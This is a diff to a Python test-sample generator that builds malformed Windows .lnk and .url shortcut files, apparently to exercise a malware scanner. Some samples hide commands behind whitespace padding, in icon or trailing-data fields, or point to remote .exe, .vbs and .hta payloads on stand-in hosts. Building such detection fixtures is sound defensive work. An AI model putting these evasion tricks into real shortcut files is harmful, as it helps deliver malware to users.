@@ -359,14 +359,15 @@ def slides_and_controls():
     sample("button.docx", control("{D7053240-CE69-11CD-A777-00DD01143C57}"))
 
 
-def shortcut(target, arguments, is_wide=True):
-    """[MS-SHLLINK] 2: a list of one identifier, a name, a path and arguments."""
-    flags = 1 | 4 | 8 | 0x20 | (0x80 if is_wide else 0)
+def shortcut(target, arguments, is_wide=True, place="", icon="", behind=""):
+    """[MS-SHLLINK] 2: a list of one identifier, a place, a name, a path, arguments, an icon, blocks."""
+    flags = 1 | (2 if place else 0) | 4 | 8 | 0x20 | (0x40 if icon else 0) | (0x80 if is_wide else 0)
     head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), flags)
     identifiers = struct.pack("<HH", len(target) + 4, len(target) + 2) + target.encode() + bytes(2)
+    info = struct.pack("<I", len(place) + 4) + place.encode() if place else b""
     texts = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le" if is_wide else "ascii")
-                     for text in ("A letter", "..\\a", arguments))
-    return head.ljust(76, b"\0") + identifiers + texts + bytes(4)
+                     for text in ("A letter", "..\\a", arguments) + ((icon,) if icon else ()))
+    return head.ljust(76, b"\0") + identifiers + info + texts + behind.encode("utf-16-le") + bytes(4)
 
 
 def shortcuts():
@@ -377,6 +378,12 @@ def shortcuts():
     sample("fetch.lnk", shortcut("mshta.exe", "http://x.test/a.hta"), "suspicious", runs)
     sample("cut.lnk", shortcut(command, "/c a")[:80])
     sample("letter.lnk", shortcut("C:\\Office\\winword.exe", '"C:\\My letters\\a.docx"'))
+    sample("padded.lnk", shortcut("C:\\x.exe", " \t\r\n" * 3000 + "powershell -enc A"), "suspicious", runs)
+    sample("place.lnk", shortcut("A" * 9000, "a", place=command), "suspicious", runs)
+    sample("block.lnk", shortcut("A" * 9000, "a", place="B" * 9000, behind=command), "suspicious", runs)
+    sample("icon.lnk", shortcut("C:\\Office\\winword.exe", "a.docx", place="C:\\a.docx", icon=command))
+    sample("mark.url", b"\xef\xbb\xbf\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\n",
+           "suspicious", leads)
     sample("share.url", b"[InternetShortcut]\r\nURL=\\\\192.0.2.1@80\\a\\b.vbs\r\n", "suspicious", leads)
     sample("file.url", b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
            b"url=file://192.0.2.1/a/b.exe\r\n", "suspicious", leads)
